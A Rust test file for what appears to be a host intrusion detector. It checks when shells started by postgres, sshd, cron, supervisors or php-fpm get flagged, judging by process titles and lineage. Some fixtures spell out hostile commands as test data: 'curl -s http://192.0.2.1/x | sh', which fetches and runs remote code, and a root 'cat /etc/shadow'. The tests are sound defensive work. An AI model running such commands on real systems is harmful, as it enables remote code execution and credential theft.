//! What a server's processes call themselves decides what their children are; and who leaves a lineage.

use super::*;

fn postgres(words: &str) -> (Scene, ProcessKey) {
    let (mut scene, worker) = Scene::of("/usr/lib/postgresql/15/bin/postgres", "postgres -D /data");
    scene.title(worker, words);
    (scene, worker)
}

#[test]
fn the_archiver_runs_shells_and_a_backend_does_not() {
    let archive = || shell("test ! -f /mnt/wal/01 && cp pg_wal/01 /mnt/wal/01");
    for (words, expected) in [
        ("postgres: archiver archiving 000000010000000000000002", None),
        ("postgres: 15/main: startup recovering 000000010000000000000003", None),
        ("postgres: 15/main: postgres postgres [local] COPY", Some("critical")),
        ("postgres: archiver archiver [local] COPY", Some("critical")),
    ] {
        let (mut scene, worker) = postgres(words);
        let story = scene.start(worker, archive());
        scene.start(story, program("/usr/bin/cp", "cp pg_wal/01 /mnt/wal/01"));
        assert_eq!(scene.told_by("server-shell"), Vec::from_iter(expected), "{words}");
    }
}

#[test]
fn without_a_title_a_shell_of_postgres_is_told() {
    let (mut scene, worker) = Scene::of("/usr/lib/postgresql/15/bin/postgres", "postgres -D /data");
    scene.start(worker, shell("cp pg_wal/01 /mnt/wal/01"));
    assert_eq!(scene.told_by("server-shell"), ["critical"]);
}

#[test]
fn what_the_archiver_fetches_and_runs_is_told_all_the_same() {
    let (mut scene, worker) = postgres("postgres: archiver archiving 000000010000000000000002");
    scene.start(worker, shell("curl -s http://192.0.2.1/x | sh"));
    assert_eq!(scene.told_by("server-shell"), ["critical"]);
}

#[test]
fn only_where_the_title_decides_it_is_asked_for() {
    let (scene, _) = postgres("postgres: archiver");
    assert!(scene.core.has_titles(1));
    let (scene, _) = Scene::php();
    assert!(!scene.core.has_titles(1) && !scene.core.has_titles(0));
}

#[test]
fn the_archiver_may_be_gone_before_its_shell_is_looked_at() {
    let (mut scene, archiver) = postgres("postgres: archiver archiving 000000010000000000000002");
    let child = scene.fork(archiver, 33);
    scene.ends(archiver);
    scene.becomes(child, shell("test ! -f /mnt/wal/02 && cp pg_wal/02 /mnt/wal/02"));
    assert_eq!(scene.told(), []);
}

/// An SSH connection: the process that calls itself that, below sshd.
fn ssh(words: &str) -> (Scene, ProcessKey) {
    let (mut scene, listener) = Scene::of("/usr/sbin/sshd", "/usr/sbin/sshd -D");
    let of_connection = scene.start(listener, program("/usr/sbin/sshd", "sshd -D -R"));
    scene.title(of_connection, words);
    (scene, of_connection)
}

#[test]
fn a_session_that_is_logged_in_leaves_the_lineage_of_sshd() {
    for words in ["sshd: alice@pts/0", "sshd: alice@notty", "sshd-session: bob@pts/12"] {
        let (mut scene, connection) = ssh(words);
        let bash = scene.start(connection, program("/usr/bin/bash", "-bash"));
        let sudo = scene.start(bash, program("/usr/bin/sudo", "sudo -i"));
        scene.start(sudo, Exec { uid: 0, euid: 0, ..program("/usr/bin/cat", "cat /etc/shadow") });
        assert_eq!(scene.told(), [], "{words}");
    }
}

#[test]
fn a_shell_of_sshd_outside_of_a_session_stays_and_is_told() {
    for words in ["sshd: [accepted]", "sshd: alice [priv]", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"] {
        let (mut scene, connection) = ssh(words);
        let story = scene.start(connection, program("/usr/bin/bash", "bash -c id"));
        scene.start(story, program("/usr/bin/id", "id"));
        assert_eq!(scene.told_by("server-shell"), ["high"], "{words}");
    }
}

#[test]
fn jobs_of_cron_and_services_of_supervisors_are_on_their_own() {
    for (executable, command) in [
        ("/usr/sbin/cron", "/usr/sbin/cron -f"),
        ("/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/supervisord -n"),
        ("/usr/bin/runsv", "runsv site"),
    ] {
        let (mut scene, daemon) = Scene::of(executable, command);
        let job = scene.start(daemon, shell("/usr/local/bin/backup | gzip"));
        scene.start(job, program("/usr/bin/curl", "curl http://192.0.2.1/x"));
        assert_eq!(scene.told(), [], "{command}");
    }
}

#[test]
fn a_server_that_a_supervisor_started_is_one_of_its_own() {
    let mut scene = Scene::new();
    let supervisor = scene.start(INIT, program("/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/supervisord -n"));
    let fpm = scene.start(supervisor, program("/usr/sbin/php-fpm8.2", "php-fpm8.2 -F"));
    let worker = scene.fork(fpm, 33);
    scene.start(worker, program("/usr/bin/id", "id"));
    assert_eq!(scene.told(), [("server-shell", "high")]);
    assert_eq!(scene.alerts[0].server.as_ref().unwrap().id, "php-fpm");
}
